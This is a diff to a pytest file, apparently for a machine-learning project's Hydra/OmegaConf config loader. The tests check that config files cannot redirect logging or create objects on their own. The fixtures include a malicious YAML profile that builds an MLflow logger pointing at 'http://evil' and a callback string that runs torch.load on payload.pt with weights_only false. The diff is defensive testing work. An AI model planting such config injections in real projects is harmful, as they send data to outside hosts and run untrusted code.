@@ -461,6 +461,21 @@ def test_a_file_sends_no_curves_elsewhere_unless_the_command_line_says_so(evil, 
             completed(words, leave_nothing=False)
     for said in ("trust=[logger]", f"{key}=here"):
         assert completed([*given, said], leave_nothing=False)
+    if "mine" not in key:
+        section, _, name = key.rpartition(".")
+        assert completed([*given, f"{section}={{{name}: here}}"], leave_nothing=False)
+        with pytest.raises(ConfigError, match=f"{key}: a file sets it"):
+            completed([*given, f"{section}={{name: other}}"], leave_nothing=False)
+
+
+def test_a_file_computes_no_logger(evil, monkeypatch):
+    (evil / "conf" / "profile").mkdir(parents=True)
+    logger = "{_target_:seqrl.loggers.Mlflow,tracking_uri:'http://evil'}"
+    file = f'# @package _global_\nlogger:\n  tensorboard: "${{oc.create:{logger}}}"\n'
+    (evil / "conf" / "profile" / "bad.yaml").write_text(file)
+    monkeypatch.chdir(evil)
+    with pytest.raises(ConfigError, match=r"logger\.tensorboard: a file sets it"):
+        completed(["--config-dir", "conf", "profile=bad"], leave_nothing=False)
 
 
 CALLBACK = "hydra: {callbacks: {evil: {_target_: torch.load, f: payload.pt, weights_only: false}}}"
